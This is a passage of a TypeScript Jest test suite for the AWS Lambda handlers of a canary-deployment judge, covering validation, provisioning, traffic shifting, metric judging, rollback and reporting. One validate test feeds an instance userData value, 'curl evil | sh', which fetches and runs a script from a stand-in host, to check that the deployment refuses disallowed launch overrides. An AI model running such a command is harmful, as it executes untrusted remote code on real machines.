import type { Context } from 'aws-lambda';
import { makeHandler as checkHealth } from '../../../functions/check-health/handler';
import { createLogger, type HandlerOptions, type TaskHandler } from '../../../functions/common/task-handler';
import { makeHandler as judge } from '../../../functions/judge/handler';
import { makeHandler as notify } from '../../../functions/notify/handler';
import { makeHandler as promote } from '../../../functions/promote/handler';
import { makeHandler as provision } from '../../../functions/provision/handler';
import { makeHandler as rollback } from '../../../functions/rollback/handler';
import { makeHandler as shiftWeight } from '../../../functions/shift-weight/handler';
import { makeHandler as teardown } from '../../../functions/teardown/handler';
import { makeHandler as validate } from '../../../functions/validate/handler';
import { runInputSchema, type RunInputRaw } from '../../../shared/config/run-config';
import { canaryConfigSchema, scoreThresholdsSchema } from '../../../shared/judge/canary-config';
import { ValidationError } from '../../../shared/config/validation';
import { parseStoredJudgment } from '../../../shared/reports/stored-judgment';
import type { RunState } from '../../../shared/run-model/run-state';
import { runStateSchema } from '../../../shared/run-model/run-state-schema';
import { fakeAdapters, type FakeAdapters, type SeriesMaker } from '../../support/fake-adapters';
import { ERROR_RATE_METRIC, localRunInput, TEST_LISTENER_ARN } from '../../support/run-inputs';

const context = {
  functionName: 'test',
  awsRequestId: 'req-1',
  getRemainingTimeInMillis: () => 60_000,
} as unknown as Context;
const logger = createLogger({ CANARY_JUDGE_LOG_LEVEL: 'SILENT' });

function call(
  factory: (options: HandlerOptions) => TaskHandler,
  adapters: FakeAdapters,
  event: unknown,
): Promise<RunState> {
  return factory({ adapters: () => adapters, logger })(event, context);
}

async function expectRejection(promise: Promise<unknown>): Promise<Error> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e as Error,
  );
  if (!error) throw new Error('expected the handler to fail');
  return error;
}

const RUN_ID = 'checkout-1-42-0-20260101000000';
const EXECUTION_ARN = 'arn:aws:states:eu-west-1:123456789012:execution:canary-judge-run:checkout_1.42.0_gh-1';
const EXECUTION_CONSOLE_URL = `https://eu-west-1.console.aws.amazon.com/states/home?region=eu-west-1#/v2/executions/details/${EXECUTION_ARN}`;

function runState(overrides: Partial<RunState> = {}, input: Partial<RunInputRaw> = {}): RunState {
  return {
    runId: RUN_ID,
    input: runInputSchema.parse(localRunInput({ runId: RUN_ID, ...input })),
    startedAt: new Date().toISOString(),
    resources: {},
    judgments: [],
    ...overrides,
  };
}

/** The state after provision + shift to step `index` (0-based), with traffic started 20 s ago. */
async function shiftedTo(adapters: FakeAdapters, index: number, input: Partial<RunInputRaw> = {}): Promise<RunState> {
  let state = await call(provision, adapters, runState({}, input));
  for (let i = 0; i <= index; i++) state = await call(shiftWeight, adapters, state);
  const past = (seconds: number) => new Date(Date.now() - seconds * 1000).toISOString();
  return { ...state, trafficStartedAt: past(20), step: { ...state.step!, appliedAt: past(10) } };
}

describe('validate', () => {
  it('rejects bad input naming the field, without touching the listener', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const input = localRunInput({
      steps: [
        { weight: 20, durationSeconds: 10 },
        { weight: 10, durationSeconds: 10 },
      ],
    });
    const error = await expectRejection(call(validate, adapters, input));
    expect(error.name).toBe('ValidationError');
    expect(error.message).toContain('steps[1].weight');
    expect(adapters.traffic.calls).toEqual([]);
    expect(adapters.fleet.calls).toEqual([]);
  });

  it('names a missing field and a wrong type', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const { service: _dropped, ...noService } = localRunInput();
    expect((await expectRejection(call(validate, adapters, noService))).message).toMatch(/service/);
    const wrongType = { ...localRunInput(), healthCheck: { intervalSeconds: 'often' } };
    expect((await expectRejection(call(validate, adapters, wrongType))).message).toMatch(
      /healthCheck\.intervalSeconds/,
    );
  });

  it('rejects an unknown listener and a listener held by another run, changing nothing', async () => {
    const adapters = fakeAdapters('arn:other-listener');
    const unknown = await expectRejection(call(validate, adapters, localRunInput()));
    expect(unknown.message).toContain('traffic.listenerArn');

    const busy = fakeAdapters(TEST_LISTENER_ARN);
    busy.traffic.rules.set(TEST_LISTENER_ARN, {
      ruleArn: 'rule/other',
      runId: 'other-run',
      weights: { production: 80, baseline: 10, canary: 10 },
    });
    const locked = await expectRejection(call(validate, busy, localRunInput()));
    expect(locked.name).toBe('TrafficLocked');
    expect(busy.traffic.productionWeight(TEST_LISTENER_ARN)).toBe(80);
    expect(busy.fleet.calls).toEqual([]);
  });

  it('names a metric that cannot be read by its path in the run input, changing nothing', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const unreadable = { name: 'p99', groups: ['latency'] };
    const input = localRunInput();
    input.canaryConfig = { ...input.canaryConfig, metrics: [ERROR_RATE_METRIC, unreadable] };
    const error = await expectRejection(call(validate, adapters, input));
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as ValidationError).issues.map((i) => i.path)).toEqual(['canaryConfig.metrics[1]']);
    expect(error.message).toBe(
      'invalid run input: canaryConfig.metrics[1]: metric "p99" cannot be read: it has neither a preset nor a query; ' +
        'give "preset" or a cloudwatch/prometheus "query"',
    );
    expect(adapters.traffic.calls).toEqual([]);
    expect(adapters.notifiers[0].events).toEqual([]);
  });

  it('refuses a PromQL query for a CloudWatch source, naming the metric, before anything is created', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const promql = { name: 'p99', groups: ['latency'], query: { type: 'prometheus', query: 'rate(x{${scope}}[1m])' } };
    const input = localRunInput({ metricsSource: { type: 'cloudwatch' } });
    input.canaryConfig = { ...input.canaryConfig, metrics: [ERROR_RATE_METRIC, promql as never] };
    const error = await expectRejection(call(validate, adapters, input));
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as ValidationError).issues.map((i) => i.path)).toEqual(['canaryConfig.metrics[1].query.type']);
    expect(error.message).toContain('metric "p99" has a prometheus query, which metricsSource.type "cloudwatch"');
    // nothing started: the listener was not even asked, production keeps all traffic, no start was announced
    expect(adapters.traffic.calls).toEqual([]);
    expect(adapters.fleet.calls).toEqual([]);
    expect(adapters.traffic.productionWeight(TEST_LISTENER_ARN)).toBe(100);
    expect(adapters.notifiers[0].events).toEqual([]);
  });

  it('names the run service-canaryversion-timestamp and announces the start', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const state = await call(validate, adapters, localRunInput());
    expect(state.runId).toMatch(/^checkout-1-42-0-\d{14}$/);
    expect(state.input.runId).toBe(state.runId);
    expect(state).toMatchObject({ resources: {}, judgments: [] });
    expect(adapters.notifiers[0].events.map((e) => e.kind)).toEqual(['started']);
  });

  it('keeps a given run id', async () => {
    const state = await call(validate, fakeAdapters(TEST_LISTENER_ARN), localRunInput({ runId: 'my-run-7' }));
    expect(state.runId).toBe('my-run-7');
  });

  it("refuses launch fields the deployment does not accept (a console start skips the run API's check)", async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const env = { ALLOWED_LAUNCH_OVERRIDES: 'instanceType', CANARY_JUDGE_LOG_LEVEL: 'SILENT' };
    const launchTemplate = { launchTemplateName: 'checkout', version: '7' };
    const input = localRunInput({
      target: 'aws',
      baseline: { version: '1.41.0', aws: { launchTemplate, instanceType: 't3.small' } },
      canary: {
        version: '1.42.0',
        aws: { launchTemplate, userData: '#!/bin/sh\ncurl evil | sh', imageId: 'ami-0abc' },
      },
    });
    const error = await expectRejection(validate({ adapters: () => adapters, env })(input, context));
    expect((error as ValidationError).issues.map((i) => i.path)).toEqual(['canary.aws.imageId', 'canary.aws.userData']);
    expect(error.message).toContain('not allowed by this deployment (it accepts: instanceType)');
    expect(adapters.traffic.calls).toEqual([]);
    // Without the variable (canary-judge run with one's own credentials) nothing is refused.
    const state = await validate({ adapters: () => adapters, logger })(input, context);
    expect(state.input.canary.aws?.userData).toContain('#!/bin/sh');
  });
});

describe('provision and check-health', () => {
  it('launches baseline and canary and sets the health deadline', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const before = Date.now();
    const state = await call(provision, adapters, runState());
    expect(adapters.fleet.calls.sort()).toEqual(['launch:baseline', 'launch:canary']);
    expect(state.resources.baseline).toMatchObject({
      role: 'baseline',
      version: '1.41.0',
      targetGroupArn: `tg/${RUN_ID}/baseline`,
    });
    expect(state.resources.canary).toMatchObject({ role: 'canary', version: '1.42.0' });
    expect(state.health).toMatchObject({ status: 'pending', attempts: 0, waitSeconds: 1 });
    const deadline = Date.parse(state.health!.deadline);
    expect(deadline - before).toBeGreaterThanOrEqual(30_000);
    expect(deadline - Date.now()).toBeLessThanOrEqual(30_000);
  });

  it('attaches both target groups to the run rule at weight 0 before health is awaited, and records the rule', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const state = await call(provision, adapters, runState());
    expect(adapters.traffic.calls).toEqual(['shift:0']);
    expect(adapters.traffic.history).toEqual([{ production: 100, baseline: 0, canary: 0 }]);
    expect(adapters.traffic.productionWeight(TEST_LISTENER_ARN)).toBe(100);
    expect(state.resources.ruleArn).toBe(`rule/${RUN_ID}`);
    // The first step modifies that rule rather than creating another.
    const shifted = await call(shiftWeight, adapters, state);
    expect(shifted.resources.ruleArn).toBe(`rule/${RUN_ID}`);
    expect(adapters.traffic.rules.get(TEST_LISTENER_ARN)?.weights).toEqual({
      production: 80,
      baseline: 10,
      canary: 10,
    });
  });

  it('fails when another run took the listener after validate; teardown then removes what was launched', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const other = { ruleArn: 'rule/other', runId: 'other-run', weights: { production: 80, baseline: 10, canary: 10 } };
    adapters.traffic.rules.set(TEST_LISTENER_ARN, other);
    const error = await expectRejection(call(provision, adapters, runState()));
    expect(error.name).toBe('TrafficLocked');
    expect(adapters.traffic.rules.get(TEST_LISTENER_ARN)).toEqual(other);
    await call(teardown, adapters, runState());
    expect(adapters.fleet.of(RUN_ID)).toEqual([]);
    expect(adapters.traffic.rules.get(TEST_LISTENER_ARN)).toEqual(other);
  });

  it('stretches the poll interval so a long timeout cannot mean more than 40 polls', async () => {
    const state = await call(
      provision,
      fakeAdapters(TEST_LISTENER_ARN),
      runState({}, { healthCheck: { intervalSeconds: 5, timeoutSeconds: 3600 } }),
    );
    expect(state.health?.waitSeconds).toBe(90);
  });

  it('is healthy only when both are, unhealthy when either is, and unhealthy once the deadline passed', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const provisioned = await call(provision, adapters, runState());
    adapters.fleet.health_.canary = { status: 'pending', detail: '0/1 healthy' };
    const pending = await call(checkHealth, adapters, provisioned);
    expect(pending.health).toMatchObject({ status: 'pending', attempts: 1 });
    expect(pending.health?.detail).toContain('canary 1.42.0: 0/1 healthy');

    const overdue = await call(checkHealth, adapters, {
      ...pending,
      health: { ...pending.health!, deadline: new Date(Date.now() - 1000).toISOString() },
    });
    expect(overdue.health).toMatchObject({ status: 'unhealthy', attempts: 2 });
    expect(overdue.health?.detail).toMatch(/^not healthy within 30s/);

    adapters.fleet.health_.canary = { status: 'unhealthy', detail: 'exited with code 1' };
    expect((await call(checkHealth, adapters, pending)).health?.status).toBe('unhealthy');

    adapters.fleet.health_.canary = undefined;
    expect((await call(checkHealth, adapters, pending)).health?.status).toBe('healthy');
  });

  it('a baseline that cannot get healthy beside a healthy canary is no verdict on the canary: inconclusive', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const provisioned = await call(provision, adapters, runState());
    adapters.fleet.health_.baseline = { status: 'unhealthy', detail: 'exited with code 1' };
    const state = await call(checkHealth, adapters, provisioned);
    expect(state.health?.status).toBe('unhealthy');
    expect(state.decision).toEqual({
      action: 'rollback',
      reason: 'could not judge: baseline 1.41.0 not healthy: exited with code 1',
      couldNotJudge: true,
    });
    expect((await call(rollback, adapters, state)).outcome).toMatchObject({ verdict: 'inconclusive', score: 0 });
    // a dead canary is the canary's fault
    adapters.fleet.health_.baseline = undefined;
    adapters.fleet.health_.canary = { status: 'unhealthy', detail: 'exited with code 1' };
    const canaryDead = await call(checkHealth, adapters, provisioned);
    expect(canaryDead.decision).toBeUndefined();
    expect((await call(rollback, adapters, canaryDead)).outcome).toMatchObject({ verdict: 'fail' });
  });
});

describe('shift-weight', () => {
  it('applies each step in turn: same share to baseline and canary, production keeps the rest', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    let state = await call(provision, adapters, runState());
    state = await call(shiftWeight, adapters, state);
    expect(state.step).toMatchObject({ index: 0, weight: 10, waitSeconds: 10 });
    expect(state.trafficStartedAt).toBe(state.step?.appliedAt);
    const started = state.trafficStartedAt;
    state = await call(shiftWeight, adapters, state);
    state = await call(shiftWeight, adapters, state);
    expect(adapters.traffic.history).toEqual([
      { production: 100, baseline: 0, canary: 0 },
      { production: 80, baseline: 10, canary: 10 },
      { production: 50, baseline: 25, canary: 25 },
      { production: 0, baseline: 50, canary: 50 },
    ]);
    expect(state.trafficStartedAt).toBe(started);
    expect(state.resources.ruleArn).toBe(`rule/${RUN_ID}`);
    await expect(call(shiftWeight, adapters, state)).rejects.toThrow(/no step 4/);
  });

  it('never goes beyond the first step in a dry run', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    let state = await call(provision, adapters, runState({}, { dryRun: true }));
    for (let i = 0; i < 3; i++) state = await call(shiftWeight, adapters, state);
    expect(adapters.traffic.history.map((w) => w.canary)).toEqual([0, 10, 10, 10]);
    expect(state.step).toMatchObject({ index: 2, weight: 10 });
  });
});

describe('judge', () => {
  const same: SeriesMaker = (name) =>
    name === 'latency' ? [0.1, 0.11, 0.12, 0.1, 0.09, 0.1, 0.11, 0.1, 0.12, 0.1] : Array(10).fill(0);
  const slowCanary: SeriesMaker = (name, role) =>
    name === 'latency'
      ? Array.from({ length: 10 }, (_, i) => (role === 'canary' ? 0.3 : 0.1) + i * 0.001)
      : Array(10).fill(0);

  it('continues after a passing intermediate step and stores the details under judgments/step-<n>.json', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN, same);
    const state = await call(judge, adapters, await shiftedTo(adapters, 0));
    expect(state.decision?.action).toBe('continue');
    expect(state.judgments).toHaveLength(1);
    const summary = state.judgments[0];
    expect(summary).toMatchObject({
      step: 1,
      weight: 10,
      score: 100,
      verdict: 'pass',
      action: 'continue',
      reportKey: 'judgments/step-1.json',
    });
    expect(summary.metrics.map((m) => [m.name, m.classification])).toEqual([
      ['error-rate', 'Pass'],
      ['latency', 'Pass'],
    ]);
    const stored = parseStoredJudgment(
      (await adapters.reports.get(RUN_ID, 'judgments/step-1.json'))!,
      'judgments/step-1.json',
    );
    expect(stored.summary).toEqual(summary);
    expect(stored.result.score).toBe(100);
    expect(stored.series.map((s) => s.name)).toEqual(['error-rate', 'latency']);
    // the window: from the traffic start (no warm-up) to now
    const request = adapters.metrics.requests[0];
    expect(request.window.start.toISOString()).toBe(state.trafficStartedAt);
    expect(request.scopes.canary).toMatchObject({
      role: 'canary',
      targetGroupArn: `tg/${RUN_ID}/canary`,
      runId: RUN_ID,
    });
  });

  it("a step's next look refuses a malformed stored judgment, naming the field, and stores nothing", async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN, same);
    const input = { judgment: { mode: 'sequential' as const, checkIntervalSeconds: 5 } };
    const first = await call(judge, adapters, await shiftedTo(adapters, 0, input));
    expect(first.step).toMatchObject({ look: 1, looks: 2 });
    const key = `${RUN_ID}/judgments/step-1.json`;
    const broken = JSON.parse(adapters.reports.files.get(key)!.body);
    broken.looks[0].score = 'high';
    adapters.reports.files.set(key, { body: JSON.stringify(broken), contentType: 'application/json' });

    const error = await expectRejection(call(judge, adapters, first));
    expect([error.name, error.message]).toEqual([
      'ValidationError',
      expect.stringMatching(/^invalid stored judgment judgments\/step-1\.json: looks\[0\]\.score: /),
    ]);
    expect(JSON.parse(adapters.reports.files.get(key)!.body)).toEqual(broken);
  });

  it('parses the run state once per task and no part of its config again (no look re-parses the canary config)', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN, same);
    let state = await shiftedTo(adapters, 0, { judgment: { mode: 'sequential', checkIntervalSeconds: 5 } });
    const schemas = { runState: runStateSchema, runInput: runInputSchema, canaryConfig: canaryConfigSchema };
    const thresholds = scoreThresholdsSchema;
    // zod's parse and safeParse are separate entry points (neither calls the other): count both of each schema.
    const spies = Object.entries({ ...schemas, thresholds }).flatMap(([name, schema]) =>
      (['parse', 'safeParse'] as const).map((method) => ({ name, spy: jest.spyOn(schema, method) })),
    );
    const parses = () =>
      Object.fromEntries(
        Object.keys({ ...schemas, thresholds }).map((name) => [
          name,
          spies.filter((s) => s.name === name).reduce((n, s) => n + s.spy.mock.calls.length, 0),
        ]),
      );
    const perTask: Record<string, number>[] = [];
    try {
      for (const task of [judge, judge, shiftWeight, judge]) {
        spies.forEach((s) => s.spy.mockClear());
        state = await call(task, adapters, state);
        perTask.push(parses());
      }
    } finally {
      spies.forEach((s) => s.spy.mockRestore());
    }
    expect(state.judgments.map((j) => [j.step, j.look?.number])).toEqual([
      [1, 2],
      [2, 1],
    ]);
    expect(perTask).toEqual(Array(4).fill({ runState: 1, runInput: 0, canaryConfig: 0, thresholds: 0 }));
  });

  it("Kayenta mode spends the run's false-rollback budget over the steps, or uses the fixed level without error control", async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN, same);
    const errorControl = { method: 'alpha-spending' as const, spending: 'pocock' as const, runFalseRollbackRate: 0.01 };
    let state = await shiftedTo(adapters, 0, { analysis: { errorControl }, judgment: { mode: 'kayenta' } });
    const levels: number[] = [];
    for (let i = 0; i < 3; i++) {
      state = await call(judge, adapters, state);
      levels.push(state.judgments[i].confidenceLevel);
      if (i < 2) state = await call(shiftWeight, adapters, state);
    }
    // Pocock-like spending of alpha = 0.01 per side over three equal steps: 1 - 2 * alpha_k
    expect(levels[0]).toBeCloseTo(0.9909434, 6);
    expect(levels[1]).toBeCloseTo(0.993789, 6);
    expect(levels[2]).toBeCloseTo(0.9952677, 6);

    const fixed = fakeAdapters(TEST_LISTENER_ARN, same);
    const none = await call(
      judge,
      fixed,
      await shiftedTo(fixed, 0, { analysis: { confidenceLevel: 0.95, errorControl: { method: 'none' } } }),
    );
    expect(none.judgments[0].confidenceLevel).toBe(0.95);
  });

  it('promotes after the last step passes, but not in a dry run', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN, same);
    expect((await call(judge, adapters, await shiftedTo(adapters, 2))).decision?.action).toBe('promote');

    const dry = fakeAdapters(TEST_LISTENER_ARN, same);
    const decided = await call(judge, dry, await shiftedTo(dry, 2, { dryRun: true }));
    expect(decided.decision?.action).toBe('rollback');
    expect(decided.decision?.reason).toMatch(/^dry run: .*would promote/);
    expect(decided.judgments[0].verdict).toBe('pass');
  });

  it('rolls back at once on a regression', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN, slowCanary);
    const state = await call(judge, adapters, await shiftedTo(adapters, 0));
    expect(state.judgments[0].metrics.find((m) => m.name === 'latency')?.classification).toBe('High');
    expect(state.judgments[0].score).toBe(50);
    expect(state.decision).toEqual({
      action: 'rollback',
      reason: expect.stringContaining('step 1/3: score 50 <= marginal 50'),
    });
  });

  it('rolls back when the canary died during the step, even with good metrics', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN, same);
    const shifted = await shiftedTo(adapters, 1);
    adapters.fleet.health_.canary = { status: 'unhealthy', detail: '0/1 healthy; local:123 exited with code 1' };
    const state = await call(judge, adapters, shifted);
    expect(state.judgments[0].score).toBe(100);
    expect(state.decision).toEqual({
      action: 'rollback',
      reason: 'step 2/3: canary 1.42.0 unhealthy: 0/1 healthy; local:123 exited with code 1',
    });
    expect(state.health).toMatchObject({
      status: 'unhealthy',
      detail: 'canary 1.42.0 unhealthy: 0/1 healthy; local:123 exited with code 1',
    });
    // the outcome: judged 100, but failed and rolled back for the dead canary
    const rolled = await call(rollback, adapters, state);
    expect(rolled.outcome).toEqual({
      decision: 'rollback',
      verdict: 'fail',
      score: 100,
      reason: state.decision?.reason,
    });
  });

  it('a baseline that died during the step: could not judge, the verdict is inconclusive, not a failed canary', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN, same);
    const shifted = await shiftedTo(adapters, 1);
    adapters.fleet.health_.baseline = { status: 'unhealthy', detail: '0/1 healthy; local:77 exited with code 137' };
    const state = await call(judge, adapters, shifted);
    expect(state.decision).toEqual({
      action: 'rollback',
      reason: 'step 2/3: could not judge: baseline 1.41.0 unhealthy: 0/1 healthy; local:77 exited with code 137',
      couldNotJudge: true,
    });
    const rolled = await call(rollback, adapters, state);
    expect(rolled.outcome).toEqual({
      decision: 'rollback',
      verdict: 'inconclusive',
      score: 100,
      reason: state.decision?.reason,
    });
  });

  it('judges every metric as missing data when the whole source fails, naming the failure', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN, same);
    const shifted = await shiftedTo(adapters, 0);
    adapters.metrics.fetch = async () => Promise.reject(new Error('connect ECONNREFUSED 127.0.0.1:9090'));
    const state = await call(judge, adapters, shifted);
    expect(state.judgments[0].metrics.map((m) => [m.name, m.classification, m.reason])).toEqual([
      [
        'error-rate',
        'Nodata',
        expect.stringContaining('metric source failed: fake metrics: connect ECONNREFUSED 127.0.0.1:9090'),
      ],
      ['latency', 'Nodata', expect.stringContaining('metric source failed: fake metrics: connect ECONNREFUSED')],
    ]);
    // no metric answered: the run could not judge the canary, whatever the metrics' nanStrategy
    expect(state.decision).toEqual({
      action: 'rollback',
      reason:
        'step 1/3: could not judge: the metrics source failed for every metric: fake metrics: connect ECONNREFUSED 127.0.0.1:9090',
      couldNotJudge: true,
    });
    expect((await call(rollback, adapters, state)).outcome?.verdict).toBe('inconclusive');
  });

  it('turns a metric-source failure into missing data, classified by mustHaveData, with the failure as reason', async () => {
    const failing: SeriesMaker = (name, role) =>
      name === 'error-rate' ? new Error('query timed out') : same(name, role, undefined as never);
    const input = localRunInput();
    const errorRate = {
      ...input.canaryConfig.metrics[0],
      analysisConfigurations: { canary: { direction: 'increase' as const, mustHaveData: true } },
    };
    const adapters = fakeAdapters(TEST_LISTENER_ARN, failing);
    const state = await call(
      judge,
      adapters,
      await shiftedTo(adapters, 0, {
        canaryConfig: { ...input.canaryConfig, metrics: [errorRate, input.canaryConfig.metrics[1]] },
      }),
    );
    const metric = state.judgments[0].metrics.find((m) => m.name === 'error-rate');
    expect(metric?.classification).toBe('NodataFailMetric');
    expect(metric?.reason).toContain('metric source failed: query timed out');
  });

  it('too few points: continues on an intermediate step, rolls back after the last one without promoting', async () => {
    // a preset metric (minDataPoints 5) and the critical error rate with minDataPoints 5, 3 canary points each
    const fewCanary: SeriesMaker = (name, role) =>
      role === 'canary' ? [0.1, 0.11, 0.1] : [0.1, 0.11, 0.12, 0.1, 0.09, 0.1, 0.11, 0.1];
    const input = localRunInput();
    const errorRate = {
      ...input.canaryConfig.metrics[0],
      analysisConfigurations: { canary: { direction: 'increase' as const, critical: true, minDataPoints: 5 } },
    };
    const canaryConfig = {
      ...input.canaryConfig,
      metrics: [errorRate, { name: 'latency', groups: ['latency'], preset: 'latency-average' }],
    };
    const adapters = fakeAdapters(TEST_LISTENER_ARN, fewCanary);
    const first = await call(judge, adapters, await shiftedTo(adapters, 0, { canaryConfig }));
    expect(first.judgments[0].metrics.map((m) => [m.name, m.classification, m.critical, m.reason])).toEqual([
      [
        'error-rate',
        'Nodata',
        false,
        'canary has 3 points, baseline 8; at least 5 per side are needed to judge error-rate',
      ],
      ['latency', 'Nodata', false, 'canary has 3 points, baseline 8; at least 5 per side are needed to judge latency'],
    ]);
    expect(first.decision).toEqual({
      action: 'continue',
      reason: 'step 1/3: score 100 > marginal 50, continue; not judged yet (too few points): error-rate, latency',
    });
    const stored = parseStoredJudgment(
      (await adapters.reports.get(RUN_ID, 'judgments/step-1.json'))!,
      'judgments/step-1.json',
    );
    expect(stored.result).toMatchObject({
      insufficientData: ['error-rate', 'latency'],
      insufficientDataRequired: ['error-rate'],
    });

    const last = fakeAdapters(TEST_LISTENER_ARN, fewCanary);
    const final = await call(judge, last, await shiftedTo(last, 2, { canaryConfig }));
    expect(final.judgments[0].score).toBe(100);
    expect(final.decision).toEqual({
      action: 'rollback',
      reason:
        'step 3/3: not enough data to judge after the last step: critical or mustHaveData metric error-rate ' +
        '(canary has 3 points, baseline 8; at least 5 per side are needed to judge error-rate)',
    });
  });
});

describe('promote, rollback, teardown, notify', () => {
  it('promote rolls out with the promoter and records the outcome', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const state = runState({ decision: { action: 'promote', reason: 'step 3/3: final score 100 >= pass 75' } });
    const promoted = await call(promote, adapters, state);
    expect(adapters.promoted).toHaveLength(1);
    expect(promoted.outcome).toMatchObject({
      decision: 'promote',
      reason: 'step 3/3: final score 100 >= pass 75; rolled out by the fake promoter',
    });
    await expect(call(promote, adapters, { ...state, decision: { action: 'rollback', reason: 'x' } })).rejects.toThrow(
      /promote decision/,
    );
  });

  it('rollback sends all traffic back to production and says why', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const shifted = await shiftedTo(adapters, 1);
    expect(adapters.traffic.productionWeight(TEST_LISTENER_ARN)).toBe(50);
    const rolled = await call(rollback, adapters, {
      ...shifted,
      decision: { action: 'rollback', reason: 'step 2/3: score 0 <= marginal 50' },
    });
    expect(adapters.traffic.productionWeight(TEST_LISTENER_ARN)).toBe(100);
    expect(rolled.outcome).toMatchObject({
      decision: 'rollback',
      verdict: 'fail',
      score: 0,
      reason: 'step 2/3: score 0 <= marginal 50',
    });

    const failed = await call(rollback, adapters, {
      ...shifted,
      error: { Error: 'States.Timeout', Cause: '{"errorMessage":"judge took too long"}' },
    });
    expect(failed.outcome?.reason).toBe('run error: States.Timeout: judge took too long');
  });

  it('teardown works from a half-done provision and twice in a row', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    adapters.fleet.failLaunchOf = 'canary';
    const before = runState();
    await expect(call(provision, adapters, before)).rejects.toThrow(/capacity/);
    // the state never learnt about the baseline's instances, nor the canary's target group
    expect(adapters.fleet.of(RUN_ID).sort()).toEqual(['i-baseline-0', `tg/${RUN_ID}/baseline`, `tg/${RUN_ID}/canary`]);

    const first = await call(teardown, adapters, { ...before, error: { Error: 'Error', Cause: 'capacity' } });
    expect(adapters.fleet.of(RUN_ID)).toEqual([]);
    expect(first.teardown?.removed.sort()).toEqual(['i-baseline-0', `tg/${RUN_ID}/baseline`, `tg/${RUN_ID}/canary`]);
    expect(adapters.traffic.productionWeight(TEST_LISTENER_ARN)).toBe(100);

    const second = await call(teardown, adapters, first);
    expect(second.teardown).toEqual({ trafficRestored: false, removed: [], alreadyGone: [] });
  });

  it('teardown after traffic moved restores production before removing the versions', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const shifted = await shiftedTo(adapters, 0);
    const done = await call(teardown, adapters, shifted);
    expect(adapters.traffic.calls.at(-1)).toBe('restore');
    expect(adapters.fleet.calls.at(-1)).toBe('teardown:baseline,canary');
    expect(done.teardown?.trafficRestored).toBe(true);
    expect(adapters.fleet.of(RUN_ID)).toEqual([]);
    const again = await call(teardown, adapters, done);
    expect(again.teardown?.alreadyGone.sort()).toEqual([
      'i-baseline-0',
      'i-canary-0',
      `tg/${RUN_ID}/baseline`,
      `tg/${RUN_ID}/canary`,
    ]);
  });

  it('notify writes the report, completes the outcome and tells the notifiers; an error path names the error', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const state = runState({ error: { Error: 'MetricsBroken', Cause: 'no datapoints' }, resources: {} });
    const done = await call(notify, adapters, { state, executionArn: EXECUTION_ARN });
    expect(done.outcome).toMatchObject({
      decision: 'rollback',
      verdict: 'fail',
      reason: 'run error: MetricsBroken: no datapoints',
      reportKey: `${RUN_ID}/report.html`,
      reportUrl: `memory://${RUN_ID}/report.html`,
    });
    expect(done.outcome?.finishedAt).toBeDefined();
    const html = adapters.reports.files.get(`${RUN_ID}/report.html`);
    expect(html?.contentType).toMatch(/^text\/html/);
    expect(html?.body).toContain('MetricsBroken');
    // The run's record for the list of runs, and the index of all runs beside the run folders.
    const record = JSON.parse(adapters.reports.files.get(`${RUN_ID}/run.json`)!.body);
    expect(record).toMatchObject({
      runId: RUN_ID,
      decision: 'ROLLED BACK',
      summary: 'the run itself failed: MetricsBroken: no datapoints',
      reportKey: `${RUN_ID}/report.html`,
    });
    expect(adapters.reports.files.get('index.html')?.body).toContain(`<tr data-run="${RUN_ID}">`);
    const finished = adapters.notifiers[0].events.find((e) => e.kind === 'finished');
    expect(finished?.links).toEqual({
      report: `memory://${RUN_ID}/report.html`,
      execution: EXECUTION_CONSOLE_URL,
      index: 'memory://index.html',
    });
  });

  it('notify links no execution for a local run (no console page) and needs the execution ARN', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    await call(notify, adapters, { state: runState(), executionArn: 'local-0b7c' });
    expect(adapters.notifiers[0].events[0].links).toEqual({
      report: `memory://${RUN_ID}/report.html`,
      index: 'memory://index.html',
    });
    const error = await expectRejection(call(notify, adapters, runState()));
    expect([error.name, error.message]).toEqual(['ValidationError', expect.stringContaining('executionArn')]);
  });

  it('notify answers an approval request by announcing the wait, with the execution link', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const state = runState();
    const returned = await call(notify, adapters, { state, executionArn: EXECUTION_ARN, approvalToken: 'token-1' });
    expect(returned.runId).toBe(RUN_ID);
    expect(adapters.notifiers[0].events.map((e) => [e.kind, e.links])).toEqual([
      ['approval', { execution: EXECUTION_CONSOLE_URL }],
    ]);
    expect(adapters.reports.files.size).toBe(0);
  });

  it('every handler after validate rejects an event that is not a run state, naming the field', async () => {
    const adapters = fakeAdapters(TEST_LISTENER_ARN);
    const { input: _input, ...noInput } = runState();
    for (const factory of [provision, checkHealth, shiftWeight, judge, promote, rollback, teardown]) {
